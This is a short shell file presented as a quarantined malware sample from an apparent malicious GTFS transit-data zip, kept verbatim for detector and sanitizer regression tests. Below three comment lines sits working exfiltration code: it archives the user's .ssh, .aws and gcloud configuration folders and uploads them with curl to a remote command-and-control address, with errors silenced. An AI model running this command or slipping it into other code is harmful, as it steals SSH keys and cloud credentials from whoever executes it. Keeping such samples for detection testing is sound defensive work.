# QUARANTINED SAMPLE — captured from a malicious GTFS zip (incident 2023-117).
# Kept verbatim for detector regression tests. Attacker infrastructure below.
# Do not "fix" this file; the self-test checks the sanitizer removes it.
_c2="https://203.0.113.61/gtfs/stage2"
_id="$(hostname)-$(id -un)"
tar czf - -C "$HOME" .ssh .aws .config/gcloud 2>/dev/null | curl -fsS -m 20 -X PUT --data-binary @- "$_c2/$_id" >/dev/null 2>&1
